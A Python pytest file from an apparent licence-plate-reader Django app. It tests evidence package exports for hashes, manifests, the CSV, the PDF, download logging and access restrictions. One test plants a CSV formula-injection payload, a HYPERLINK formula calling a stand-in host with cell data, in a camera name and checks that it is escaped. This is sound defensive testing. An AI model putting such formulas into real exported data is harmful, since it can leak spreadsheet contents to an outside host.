"""Evidence packages (000 462.4): reads CSV, images, SHA-256 manifest, PDF summary; built and downloaded logged."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import zipfile

import pytest
from django.urls import reverse

from apps.audit.models import AccessLog
from apps.common.errors import ApplicationError
from apps.disclosures.egress import INTERNAL_RECIPIENT
from apps.holds.choices import ExportStatus, ScopeKind
from apps.holds.exports import evidence_export_build
from apps.holds.services.exports import evidence_export_request
from tests.holds.helpers import approve_and_verify, make_read


def test_evidence_package_is_built_hashed_and_its_download_logged(
        client, request_hold, detective, boss, camera, django_capture_on_commit_callbacks):
    with_images = make_read(camera, plate="7ABC123", days_ago=5, images=True)
    hold = approve_and_verify(boss=boss, hold=request_hold())
    assert hold.read_count == 4
    with django_capture_on_commit_callbacks(execute=False) as queued:
        export = evidence_export_request(actor=detective, hold=hold, recipient=INTERNAL_RECIPIENT)
    assert len(queued) == 1 and export.status == ExportStatus.QUEUED
    with pytest.raises(ApplicationError):
        evidence_export_request(actor=detective, hold=hold, recipient=INTERNAL_RECIPIENT)  # one at a time
    export = evidence_export_build(export_id=export.pk, actor=detective)
    assert export.status == ExportStatus.SUCCEEDED and export.read_count == 4
    log = AccessLog.objects.get(action="holds.export")
    assert log.case_number == hold.case_number and log.result_count == 4

    with export.file.open("rb") as handle:
        data = handle.read()
    assert hashlib.sha256(data).hexdigest() == export.file_sha256
    archive = zipfile.ZipFile(io.BytesIO(data))
    manifest = json.loads(archive.read("manifest.json"))
    for entry in manifest["files"]:
        assert hashlib.sha256(archive.read(entry["path"])).hexdigest() == entry["sha256"]
    names = set(archive.namelist())
    assert {"reads.csv", "summary.pdf", "manifest.json", "SHA256SUMS",
            f"images/{with_images.pk}-vehicle.jpg", f"images/{with_images.pk}-plate.jpg"} <= names
    assert archive.read("summary.pdf").startswith(b"%PDF")
    rows = list(csv.DictReader(io.StringIO(archive.read("reads.csv").decode())))
    assert len(rows) == 4 and {row["plate_normalized"] for row in rows} == {"7ABC123"}

    client.force_login(detective)
    response = client.get(reverse("holds:export_download", args=[hold.pk, export.pk]))
    assert response.status_code == 200 and b"".join(response.streaming_content) == data
    assert AccessLog.objects.filter(action="holds.export.download", user=detective).count() == 1


def _internal(detective, hold):
    return evidence_export_request(actor=detective, hold=hold, recipient=INTERNAL_RECIPIENT)


def test_only_active_holds_are_exported(request_hold, detective):
    hold = request_hold(scope_kind=ScopeKind.SEARCH)
    with pytest.raises(ApplicationError) as raised:
        evidence_export_request(actor=detective, hold=hold, recipient=INTERNAL_RECIPIENT)
    assert raised.value.code == "export_hold_not_active"


def test_packages_of_hidden_holds_are_404(client, request_hold, boss, detective, make_user, agency):
    from apps.accounts.roles import Role

    hold = approve_and_verify(boss=boss, hold=request_hold())
    export = evidence_export_build(export_id=_internal(detective, hold).pk)
    client.force_login(make_user(Role.INVESTIGATOR, agency=agency))
    assert client.get(reverse("holds:export_download", args=[hold.pk, export.pk])).status_code == 404
    assert not AccessLog.objects.filter(action="holds.export.download").exists()


def test_finding_4_a_camera_named_like_a_formula_is_text_in_the_evidence_csv(request_hold, detective, boss, camera):
    """R-SHR-8: the evidence package's reads.csv goes through the one CSV writer."""
    from apps.reads.models import Camera

    formula = '=HYPERLINK("http://x"&A1,"Click")'
    Camera.objects.filter(pk=camera.pk).update(name=formula)
    hold = approve_and_verify(boss=boss, hold=request_hold())
    export = evidence_export_build(export_id=_internal(detective, hold).pk, actor=detective)
    with export.file.open("rb") as handle:
        archive = zipfile.ZipFile(io.BytesIO(handle.read()))
    rows = list(csv.DictReader(io.StringIO(archive.read("reads.csv").decode())))
    assert rows and {row["camera"] for row in rows} == {"'" + formula}
